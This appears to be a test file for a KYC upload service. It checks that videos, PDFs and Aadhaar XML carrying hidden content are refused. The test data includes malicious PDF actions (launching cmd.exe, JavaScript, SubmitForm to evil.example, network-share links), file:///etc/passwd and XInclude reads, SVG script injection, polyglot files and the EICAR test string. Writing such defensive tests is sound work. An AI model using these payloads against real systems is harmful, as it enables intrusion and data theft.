import { DocumentType } from '@kyc/contract/document-types';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openIntake } from '../../../../testing/intake/open-intake.ts';
import * as strange from '../../../../testing/intake/strange-files.ts';

const { house, deliver, started, stored } = await openIntake();
afterAll(house.close);
let id: number;
beforeAll(async () => {
  id = await started();
});

const put = (documentType: number, bytes: Buffer) => deliver(id, documentType, bytes);

/** Whether it is rejected as a file, without a stored byte. */
async function isRefused(documentType: number, bytes: Buffer): Promise<boolean> {
  const before = (await stored(id)).documents.length;
  const { statusCode } = await put(documentType, bytes);
  return [415, 422].includes(statusCode) && (await stored(id)).documents.length === before;
}

const { mp4, webm, box, eicar, html, program, archive } = strange;
const [head, ebml] = [mp4.subarray(0, 32), webm.subarray(0, 4)];
const headOfWebm = Buffer.concat([ebml, Buffer.from('\x9fB\x86\x81\x01B\x82\x84webm', 'latin1')]);

describe('M12 the content of a video is checked', () => {
  test.each<[string, Buffer]>([
    ['twelve bytes', mp4.subarray(0, 12)],
    ['the head alone', head],
    ['a page behind the head', Buffer.concat([head, html])],
    ['a program behind the head', Buffer.concat([head, program])],
    ['the test virus behind the head', Buffer.concat([head, box('mdat', eicar)])],
    ['the test virus behind a video', Buffer.concat([mp4, box('free', eicar)])],
    ['a page behind a video', Buffer.concat([mp4, html])],
    ['an archive behind a video', Buffer.concat([mp4, archive()])],
    [
      'a page in room that is free',
      Buffer.concat([mp4, box('free', Buffer.concat([html, Buffer.alloc(2000)]))]),
    ],
    ['a page in a box of its own', Buffer.concat([mp4, box('html', html)])],
    ['a cut video', mp4.subarray(0, mp4.length - 500)],
    [
      'pictures that are a page',
      Buffer.concat([mp4.subarray(0, mp4.length - 7000), Buffer.alloc(7000, '<b>')]),
    ],
    ['a box longer than the file', Buffer.concat([mp4, Buffer.from('\xff\xff\xff\xfffree', 'latin1')])],
    ['four bytes of WebM', Buffer.concat([ebml, Buffer.from('webm')])],
    ['the head of WebM alone', headOfWebm],
    ['a page behind the head of WebM', Buffer.concat([headOfWebm, html])],
    ['a page behind a WebM', Buffer.concat([webm, html])],
    ['an archive behind a WebM', Buffer.concat([webm, archive()])],
    ['a cut WebM', webm.subarray(0, webm.length - 500)],
  ])('%s is rejected', async (_what, bytes) => {
    expect(await isRefused(DocumentType.IPV, bytes)).toBe(true);
  });

  test.each([
    ['MP4', mp4],
    ['WebM', webm],
  ])('a valid %s is stored unchanged', async (_what, bytes) => {
    const answer = await put(DocumentType.IPV, bytes);
    expect([answer.statusCode, answer.body]).toEqual([200, expect.anything()]);
    expect((await stored(id)).documents.at(-1)?.size_bytes).toBe(bytes.length);
  });
});

const { pdfOf, pdfWithNote, pdfWithReference, pdfWithHiddenObjects, pdfWithStream } = strange;
const form = await strange.honestPdf();
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
/** Its first revision opens an address, the second one does not. */
const pdfOfTwoOpenings = (): Buffer => {
  const first = pdfWithNote('', '/OpenAction<</S/URI/URI(https://example.in)>>');
  const second = '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer\n<</Root 1 0 R/Size 5>>\n%%EOF\n';
  return Buffer.concat([first, latin(second)]);
};

describe('M12 a PDF has no actions, no external links and no second format', () => {
  test.each<[string, Buffer | (() => Promise<Buffer>)]>([
    ['a step into an attachment', pdfWithNote('/A<</S/GoToE/T<</R/C/N(a)>>>>')],
    [
      'a step to a share of the network',
      pdfWithNote(String.raw`/A<</S/GoToR/F(\\\\evil\\share\\a.pdf)/D[0/Fit]>>`),
    ],
    ['an address that is a script', pdfWithNote('/A<</S/URI/URI(javascript:alert\\(1\\))>>')],
    ['an address of a file', pdfWithNote('/A<</S/URI/URI(file:///etc/passwd)>>')],
    ['an address of the network', pdfWithNote(String.raw`/A<</S/URI/URI(\\\\evil\\share)>>`)],
    ['an attached file', pdfWithNote('/FS<</Type/Filespec/F(a.exe)>>')],
    [
      'a paper clip',
      Buffer.from(
        pdfWithNote('').toString('latin1').replace('Subtype/Link', 'Subtype/FileAttachment'),
        'latin1',
      ),
    ],
    ['a film', pdfWithNote('/A<</S/Rendition/OP 0>>')],
    ['a script by another spelling', pdfWithNote('/A<</S/J#61vaScript/J#53(app.alert\\(1\\))>>')],
    [
      'a script by a detour',
      Buffer.from(
        pdfWithNote('/A<</S 5 0 R>>')
          .toString('latin1')
          .replace('trailer', '5 0 obj\n/JavaScript\nendobj\ntrailer'),
        'latin1',
      ),
    ],
    ['a script in an older revision', strange.pdfOfTwoRevisions()],
    ['a script packed in an older revision', strange.pdfOfPackedRevisions],
    [
      'an object hidden in a stream',
      pdfWithStream(Buffer.from('6 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj'), false),
    ],
    [
      'contents that lie elsewhere',
      Buffer.from(
        pdfWithNote('')
          .toString('latin1')
          .replace(
            'trailer',
            '5 0 obj\n<</Length 0/F(http://evil.example/a)>>\nstream\n\nendstream\nendobj\ntrailer',
          ),
        'latin1',
      ),
    ],
    [
      'a page behind it',
      pdfOf(
        [
          '<</Type/Catalog/Pages 2 0 R>>',
          '<</Type/Pages/Kids[3 0 R]/Count 1>>',
          '<</Type/Page/Parent 2 0 R>>',
        ],
        html.toString(),
      ),
    ],
    [
      'a page in a remark',
      Buffer.from(
        pdfWithNote('').toString('latin1').replace('\n1 0 obj', `\n%${html.toString()}\n1 0 obj`),
        'latin1',
      ),
    ],
    ['an archive behind it', Buffer.concat([pdfWithNote(''), archive()])],
    ['an archive in a stream', pdfWithStream(archive(), false)],
    ['the test virus in a stream', pdfWithStream(eicar, false)],
    ['the test virus packed in a stream', pdfWithStream(eicar, true)],
    ['a script behind a form for data', pdfWithNote('/A<</S/SubmitForm/F(http://evil.example)>>')],
    ['a program to begin', pdfWithNote('/A<</S/Launch/F(cmd.exe)>>')],
    ['a form of XML', pdfWithNote('', '/AcroForm<</XFA(x)>>')],
    ['an address at a distance', pdfWithReference('/A<</S/URI/URI 5 0 R>>', '(javascript:alert\\(1\\))')],
    ['objects packed without their type', pdfWithHiddenObjects()],
    ['a page of programs', Buffer.concat([pdfWithNote(''), Buffer.from('<hta:application>')])],
    ['an archive between two revisions', Buffer.concat([pdfWithNote(''), archive(), pdfWithNote('')])],
    ['an archive of another kind behind it', Buffer.concat([pdfWithNote(''), latin('Rar!\x1a\x07\0')])],
    ['a program behind it', Buffer.concat([pdfWithNote(''), program])],
    ['70 kB of other bytes behind it', Buffer.concat([pdfWithNote(''), Buffer.alloc(70_000, 'x')])],
    ['a picture before it', Buffer.concat([latin('\xff\xd8\xff\xe0'), pdfWithNote('')])],
    ['a page before it', Buffer.concat([html, pdfWithNote('')])],
    ['an archive before it', Buffer.concat([archive(), pdfWithNote('')])],
    ['more than a kilobyte of blanks before it', Buffer.concat([Buffer.alloc(1100, '\n'), pdfWithNote('')])],
  ])('%s is rejected', async (_what, made) => {
    const bytes = typeof made === 'function' ? await made() : made;
    expect(await isRefused(DocumentType.IncomeProof, bytes)).toBe(true);
  });

  test.each<[string, () => Promise<Buffer> | Buffer]>([
    ['a form', strange.honestPdf],
    ['a link to a page', () => pdfWithNote('/A<</S/URI/URI(https://example.in/Launch/a?b=c)>>')],
    ['a link to a place in it', () => pdfWithNote('/A<</S/GoTo/D[3 0 R/Fit]>>', '/OpenAction[3 0 R/Fit]')],
    ['a letter to write', () => pdfWithNote('/A<</S/URI/URI(mailto:help@example.in)>>')],
    ['a picture in a stream', () => pdfWithStream(Buffer.alloc(300_000, 'picture <svg> '), true)],
  ])('%s is kept', async (_what, made) => {
    const answer = await put(DocumentType.IncomeProof, await made());
    expect(answer.statusCode, answer.body).toBe(200);
  });
});

describe('F6 a refused PDF names its fault and the remedy', () => {
  const script = 'This PDF contains a script.';
  const attachment = 'This PDF contains an attachment, a sound or a film.';
  const action =
    'This PDF contains an action that leaves its pages, for a program, an address or another file.';
  const open = (catalogue: string) => pdfWithNote('', catalogue);
  test.each<[string, Buffer, string]>([
    ['a script', open('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), script],
    ['a script at a distance', pdfWithReference('', '<</S/JavaScript/JS(1)>>', '/OpenAction 5 0 R'), script],
    [
      'a script after a harmless action',
      open('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>'),
      script,
    ],
    ['a script of an event', open('/AA<</WC<</S/JavaScript/JS(1)>>>>'), script],
    ['an attachment', open('/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)>>]>>>>'), attachment],
    ['a film', pdfWithNote('/A<</S/Rendition/OP 0>>'), attachment],
    ['a program on opening', open('/OpenAction<</S/Launch/F(cmd.exe)>>'), action],
    ['an address on opening', open('/OpenAction<</S/URI/URI(https://example.in)>>'), action],
    [
      'an address after a harmless action',
      open('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://example.in)>>]>>'),
      action,
    ],
    ['an address on an event', open('/AA<</WP<</S/URI/URI(https://example.in)>>>>'), action],
    ['another file on opening', open('/OpenAction<</S/GoToR/F(a.pdf)/D[0/Fit]>>'), action],
    ['a form that is sent on opening', open('/OpenAction<</S/SubmitForm/F(https://example.in)>>'), action],
    ['a menu command on opening', open('/OpenAction<</S/Named/N/SaveAs>>'), action],
    ['an address in the older revision', pdfOfTwoOpenings(), action],
    [
      'an archive',
      Buffer.concat([pdfWithNote(''), archive()]),
      'This PDF contains a file of another format.',
    ],
  ])('%s', async (_what, bytes, sentence) => {
    const answer = await put(DocumentType.IncomeProof, bytes);
    expect([answer.statusCode, answer.json<{ Message: string }>().Message]).toEqual([
      415,
      `${sentence} Print it to a new PDF and upload the new one.`,
    ]);
  });
});

describe('F6 a PDF that only shows its pages is stored unchanged', () => {
  const plain = pdfWithNote('');
  const open = (catalogue: string) => pdfWithNote('', catalogue);
  test.each<[string, Buffer]>([
    ['opens at a page by an action', open('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
    [
      'opens at a page by an action at a distance',
      pdfWithReference('', '<</S/GoTo/D[3 0 R/Fit]>>', '/OpenAction 5 0 R'),
    ],
    ['opens at a named place', open('/OpenAction(Chapter 1)')],
    ['opens with the print dialog', open('/OpenAction<</S/Named/N/Print>>')],
    [
      'opens at a page and then with the print dialog',
      open('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/Print>>>>'),
    ],
    ['moves on an event', open('/AA<</WP<</S/GoTo/D[3 0 R/Fit]>>>>')],
    ['names another element of a tagged text', open('/StructTreeRoot<</K<</S/P/Ref[3 0 R]>>>>')],
    ['has a byte order mark', Buffer.concat([latin('\xef\xbb\xbf'), plain])],
    ['has blank lines before it', Buffer.concat([latin('\r\n \n'), plain])],
    ['has no end mark', latin(plain.toString('latin1').replace('%%EOF\n', ''))],
    ['has 3,000 blank lines behind it', Buffer.concat([plain, Buffer.alloc(3000, '\n')])],
    ['has zeroes behind it', Buffer.concat([plain, Buffer.alloc(100_000)])],
    ['has a remark of a portal behind it', Buffer.concat([plain, latin('<!-- served by portal -->')])],
    [
      'has the boundary of an upload behind it',
      Buffer.concat([form, latin('\r\n------WebKitFormBoundaryAbc--\r\n')]),
    ],
    [
      'has an object that viewers skip',
      latin(plain.toString('latin1').replace('trailer', '9 0 obj\n<</A (b>>\nendobj\ntrailer')),
    ],
  ])('%s', async (_what, bytes) => {
    const answer = await put(DocumentType.IncomeProof, bytes);
    expect([answer.statusCode, answer.body]).toEqual([200, expect.anything()]);
    expect((await stored(id)).documents.at(-1)?.size_bytes).toBe(bytes.length);
  });
});

describe('M12 an Aadhaar XML is data', () => {
  const svg = 'http://www.w3.org/2000/svg';
  const declared = '<?xml version="1.0" encoding="UTF-8"?>';
  test.each([
    ['SVG with a script', `${declared}<svg xmlns="${svg}"><script>alert(1)</script></svg>`],
    ['SVG by a prefix', `${declared}<a xmlns:s="${svg}"><s:svg/></a>`],
    ['XHTML', `${declared}<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`],
    [
      'XInclude',
      `${declared}<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>`,
    ],
    ['a style sheet of XSL', `${declared}<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>`],
    ['an event', `${declared}<a onload="alert(1)"/>`],
    ['an address that is a script', `${declared}<a href="javascript:alert(1)"/>`],
    ['the test virus', `${declared}<a>${eicar.toString().replaceAll('&', '&amp;')}</a>`],
  ])('%s is rejected', async (_what, text) => {
    expect(await isRefused(DocumentType.AadhaarXml, Buffer.from(text))).toBe(true);
  });

  test('a signed one is stored', async () => {
    const signed = `${declared}<OfflinePaperlessKyc referenceId="2346"><UidData><Poi name="A"/></UidData><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI=""/></SignedInfo></Signature></OfflinePaperlessKyc>`;
    expect((await put(DocumentType.AadhaarXml, Buffer.from(signed))).statusCode).toBe(200);
  });
});

test('M12 the test virus in the form of a picture is rejected as a virus', async () => {
  const answer = await put(DocumentType.IncomeProof, Buffer.concat([Buffer.from('%PDF-1.4\n'), eicar]));
  expect([answer.statusCode, answer.json<{ Message: string }>().Message]).toEqual([
    422,
    'The file was refused by the check for malware.',
  ]);
});
